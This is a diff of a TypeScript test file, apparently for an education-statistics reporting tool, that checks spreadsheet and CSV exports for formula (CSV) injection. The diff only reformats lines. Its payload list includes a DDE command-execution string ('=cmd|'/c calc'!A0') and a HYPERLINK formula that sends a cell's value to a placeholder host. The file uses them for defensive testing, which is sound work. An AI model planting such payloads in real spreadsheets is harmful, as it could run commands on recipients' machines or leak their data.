@@ -18,7 +18,18 @@ import { cli, temporaryFolder } from '../builders/run-cli.ts'
 const { folder, remove } = temporaryFolder()
 const [school = ''] = demoUnits('小学')
 const [office = ''] = demoUnits('教育局')
-const payloads = ['=1+1', '=HYPERLINK("http://example.invalid/?"&A1,"点我")', '=cmd|\'/c calc\'!A0', '+86 0564 7350000', '-2+3', '@SUM(A1:A9)', '\t=1+1', "'=1+1", '＝1+1', ' =1+1']
+const payloads = [
+  '=1+1',
+  '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
+  "=cmd|'/c calc'!A0",
+  '+86 0564 7350000',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  "'=1+1",
+  '＝1+1',
+  ' =1+1',
+]
 let program: Program
 let county = ''
 /** What was entered, by cell of the school's workbook and of the office's list. */
@@ -27,7 +38,14 @@ const entered = new Map<string, string>()
 beforeAll(async () => {
   county = await emptyCounty(folder, [school])
   program = await startProgram(folder, county)
-  await receive(program, [await demoReturn(school, { cells: { 'MS06.05.1': '=1+1' }, explanations: new Map([['MS00-13@MS00.12.3', '=2+2']]), signOff: { head: '=3+3', statistician: '@x', filler: '+1', phone: '-1', reportedOn: null } }), await demoReturn(office)])
+  await receive(program, [
+    await demoReturn(school, {
+      cells: { 'MS06.05.1': '=1+1' },
+      explanations: new Map([['MS00-13@MS00.12.3', '=2+2']]),
+      signOff: { head: '=3+3', statistician: '@x', filler: '+1', phone: '-1', reportedOn: null },
+    }),
+    await demoReturn(office),
+  ])
   const changes = payloads.map((text, index) => ({ cell: `MS04.${index + 1}.承办`, text }))
   await program.ask('PUT', `/api/filings/${office}/cells`, { changes: [...changes, { cell: 'MS08.01.1', text: '=4+4' }] })
   // Text that does not fit its cell is kept as typed, and leaves as typed.
@@ -46,11 +64,15 @@ async function bytesOf(path: string): Promise<Uint8Array> {
 
 /** Formulas of a workbook other than those of its own computed cells, and every text that begins like one. */
 async function textsOf(bytes: Uint8Array): Promise<{ texts: string[]; formulas: string[] }> {
-  const texts = readXlsx(bytes).sheets.flatMap((sheet) => sheet.cells.filter((cell) => cell.kind === 'text' && !cell.formula).map((cell) => cell.text))
+  const texts = readXlsx(bytes).sheets.flatMap((sheet) =>
+    sheet.cells.filter((cell) => cell.kind === 'text' && !cell.formula).map((cell) => cell.text),
+  )
   const book = new ExcelJS.Workbook()
   await book.xlsx.load(bytes as unknown as ArrayBuffer)
   const formulas: string[] = []
-  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => (cell.formula === undefined ? null : formulas.push(cell.formula)))))
+  book.eachSheet((sheet) =>
+    sheet.eachRow((row) => row.eachCell((cell) => (cell.formula === undefined ? null : formulas.push(cell.formula)))),
+  )
   return { texts, formulas }
 }
 
@@ -87,7 +109,14 @@ test('in CSV: no field begins as a formula does, and numbers stay numbers', asyn
 })
 
 test('a roster that came with such names goes out and prints as it is', async () => {
-  await program.ask('PUT', '/api/units/9999999999', { code: '9999999999', name: '=1+1 小学', kind: '小学', township: '@镇', class: '121', parent: '' })
+  await program.ask('PUT', '/api/units/9999999999', {
+    code: '9999999999',
+    name: '=1+1 小学',
+    kind: '小学',
+    township: '@镇',
+    class: '121',
+    parent: '',
+  })
   const { texts, formulas } = await textsOf(await bytesOf('/api/filings/9999999999/workbook?blank=1'))
   expect(texts.filter((text) => text.includes('=1+1 小学')).length).toBeGreaterThan(0)
   expect(formulas.filter((formula) => looksLikePayload.test(formula))).toEqual([])
